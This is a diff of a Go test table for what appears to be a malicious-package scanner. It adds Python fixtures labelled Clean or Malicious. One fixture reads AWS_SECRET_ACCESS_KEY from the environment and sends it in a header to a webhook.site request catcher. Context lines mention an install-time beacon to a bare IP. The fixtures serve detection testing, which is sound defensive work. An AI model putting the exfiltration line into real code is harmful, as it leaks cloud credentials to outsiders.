@@ -110,7 +110,10 @@ func TestFalsePositiveClasses(t *testing.T) {
 		{"auth", "device name sent to the login service", map[string]string{"p/auth.py": "" +
 			"import os, socket, requests\ndef register_device(session, tenant):\n    body = {'deviceName': socket.gethostname(), 'tenant': tenant}\n" +
 			"    return session.post('https://login.example.invalid/devices/register', json=body)\n" +
-			"def msi_token(resource):\n    headers = {'secret': os.environ['MSI_SECRET']}\n    return requests.get(os.environ['MSI_ENDPOINT'] + '?resource=' + resource, headers=headers)\n"}, Suspicious},
+			"def msi_token(resource):\n    headers = {'secret': os.environ['MSI_SECRET']}\n    return requests.get(os.environ['MSI_ENDPOINT'] + '?resource=' + resource, headers=headers)\n" +
+			"def release(notes):\n    requests.post('https://api.github.com/repos/o/p/releases', json={'body': notes}, auth=('bot', os.environ['GH_TOKEN']))\n"}, Clean},
+		{"auth", "a cloud secret from the environment sent in a header to a request catcher", map[string]string{"p/auth.py": "" +
+			"import os, requests\ndef check():\n    requests.get('https://webhook.site/0b1c', headers={'k': os.environ['AWS_SECRET_ACCESS_KEY']})\n"}, Malicious},
 		{"auth", "host and user sent to a bare IP at install", map[string]string{"setup.py": stage}, Malicious},
 
 		// Progress bars that post to a chat; a stealer that posts secrets.
